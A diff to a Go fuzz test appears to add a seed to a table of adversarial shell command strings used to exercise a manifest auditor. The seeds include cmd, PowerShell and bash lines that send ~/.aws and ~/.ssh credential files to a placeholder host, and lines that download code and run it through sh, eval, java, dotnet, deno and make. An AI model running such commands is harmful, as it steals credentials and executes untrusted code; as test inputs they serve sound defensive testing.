@@ -310,6 +310,7 @@ var fuzzSeeds = [][]string{
 	{"cmd", "/c", `cd /d %USERPROFILE%\.aws & cd & chdir /D & pushd \\srv\s & popd & cd "C:\a b" & curl -F f=@credentials -T ..\.ssh h://x & cd`},
 	{"pwsh", "-Command", "Set-Location -LiteralPath:~/.aws; sl -Path; Push-Location -StackName s ~/.ssh; cd -; chdir ~; Pop-Location -StackName:s; iwr h://x -Method Post -InFile credentials; sl"},
 	{"bash", "-c", `curl -o /tmp/a h://x; curl h://y | tar x -C d; sh -c "$(cat /tmp/a -)" "$(< d/x/y)"; eval $(dd if= if=/tmp/a) "$(tr -d x < /tmp/a)"; read L M < /tmp/a; mapfile < d/z/a; xargs -a /tmp/a --arg-file=/tmp/a sh -c; xargs -a; $(cat); eval "$L$MAPFILE"`},
+	{"sh", "-c", `curl -o /t/a.jar h://x; curl h://y | tar x -C /s; java -p m -cp :/t/a.jar:; java --class-path=/t/a.jar -jar; java -jar /t/a.jar; javaw /t/A.JAVA; dotnet exec /t/a.jar; go run -C d /t/a.jar x.go; deno -A run; deno serve /t/a.jar; pwsh -ep b /t/a.jar; awk -f; sed -f/t/a.jar --file=; make -C; make -C /s -C x; make -f; gmake --makefile=/t/a.jar; cd /s; make`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
